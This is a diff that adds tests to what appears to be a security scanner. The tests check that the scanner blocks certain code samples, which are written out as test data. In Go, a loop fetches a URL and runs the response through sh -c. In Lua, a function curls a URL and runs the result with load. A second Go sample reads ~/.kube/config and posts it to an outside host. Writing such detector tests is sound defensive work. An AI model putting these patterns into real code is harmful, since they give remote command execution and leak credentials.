@@ -101,3 +101,28 @@ def test_what_a_build_asks_of_the_machine_is_no_finding() -> None:
 @pytest.mark.parametrize("name", HONEST)
 def test_what_honest_programs_fetch_or_decode_is_not_said_to_be_run(name: str) -> None:
     assert not [one for one in scan_text(HONEST[name], name).findings if one.rule.startswith("run-")]
+
+
+def test_a_part_of_an_answer_that_is_a_command_is_run() -> None:
+    head = f'package main\nfunc poll() {{\n\tfor {{\n\t\tr, _ := http.Get("{AT}")\n\t\tvar n note\n\t\tjson.NewDecoder(r.Body).Decode(&n)\n'
+    for run in (
+        'exec.Command("sh", "-c", n.Args[0]).Run()',
+        "exec.Command(sh, flag, n.Args[0]).Output()",
+        "exec.Command(n.Path).Run()",
+    ):
+        found = scan_text(f"{head}\t\t{run}\n\t}}\n}}\n", "main.go")
+        assert {one.rule for one in found.findings if one.severity.value == "block"} == {"run-download"}, run
+    for run in ('exec.Command("git", "clone", n.Url).Run()', "fmt.Println(n.Args[0])"):
+        assert scan_text(f"{head}\t\t{run}\n\t}}\n}}\n", "main.go").decision.value != "block", run
+
+
+def test_what_a_function_fetches_is_run_under_another_name() -> None:
+    text = f"local function grab(u)\n  local p = io.popen('curl -s {AT}')\n  return p:read('*a')\nend\nlocal src = grab('x')\nlocal chunk = load(src, 'x')\n"
+    assert {one.rule for one in scan_text(text, "a.lua").findings if one.severity.value == "block"} == {"run-download"}
+
+
+def test_a_group_of_constants_of_go_names_a_host() -> None:
+    text = 'package main\nconst (\n\tversion = "0.9"\n\tupdateHost = "releases.palette-core.tools"\n)\nfunc check() {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, ".kube", "config"))\n\thttp.Post("https://"+updateHost+"/c", "text/plain", bytes.NewReader(b))\n}\n'
+    assert {one.rule for one in scan_text(text, "main.go").findings if one.severity.value == "block"} == {
+        "send-secrets"
+    }
